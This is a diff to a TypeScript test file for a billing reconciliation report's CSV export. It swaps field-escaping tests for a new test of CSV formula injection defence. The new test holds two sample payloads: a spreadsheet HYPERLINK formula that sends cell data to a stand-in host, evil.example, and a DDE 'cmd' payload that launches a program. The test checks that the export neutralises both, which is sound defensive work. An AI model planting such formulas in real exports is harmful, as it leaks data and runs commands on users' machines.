@@ -1,6 +1,6 @@
 import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
-import { CSV_COLUMNS, csvField, reconciliationReport, toCsv, type PaymentReconnectOrder, type ReceivedPayment, type ReconciliationReport } from '../../src/domain/reconciliation.js';
+import { CSV_COLUMNS, reconciliationReport, toCsv, type PaymentReconnectOrder, type ReceivedPayment, type ReconciliationReport } from '../../src/domain/reconciliation.js';
 
 /** The daily reconciliation report per billing client: payments of one local day and their reconnects. */
 
@@ -124,19 +124,6 @@ describe('reconciliationReport', () => {
 });
 
 describe('toCsv', () => {
-  it.each([
-    ['plain', 'plain'],
-    ['a,b', '"a,b"'],
-    ['say "hi"', '"say ""hi"""'],
-    ['two\nlines', '"two\nlines"'],
-    ['cr\rlf', '"cr\rlf"'],
-    ['', ''],
-    [null, ''],
-    [12.5, '12.5'],
-  ] as const)('field %j → %j', (value, csv) => {
-    expect(csvField(value)).toBe(csv);
-  });
-
   it('RFC 4180: CRLF line ends, a header, the same number of fields on every line, and it reads back', () => {
     const csv = toCsv(report);
     expect(csv.endsWith('\r\n')).toBe(true);
@@ -157,5 +144,15 @@ describe('toCsv', () => {
     const rows = parse(toCsv(r)) as string[][];
     expect(rows).toHaveLength(2);
     expect(rows[1]![2]).toBe('North, "East"\nagents');
+  });
+
+  it('a client name or a reason a spreadsheet would run as a formula is written as text (OWASP CSV injection)', () => {
+    const client = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+    const r: ReconciliationReport = { ...report, client, late: [{ ...report.late[0]!, why: "@SUM(1+1)*cmd|' /C calc'!A0" }] };
+    const records = parse(toCsv(r), { columns: true }) as Record<string, string>[];
+    expect(records.map((x) => x.client)).toEqual([`'${client}`, `'${client}`]);
+    expect(records[1]!.why).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
+    // Numbers stay numbers.
+    expect(records[0]!.amount).toBe('11550.5');
   });
 });
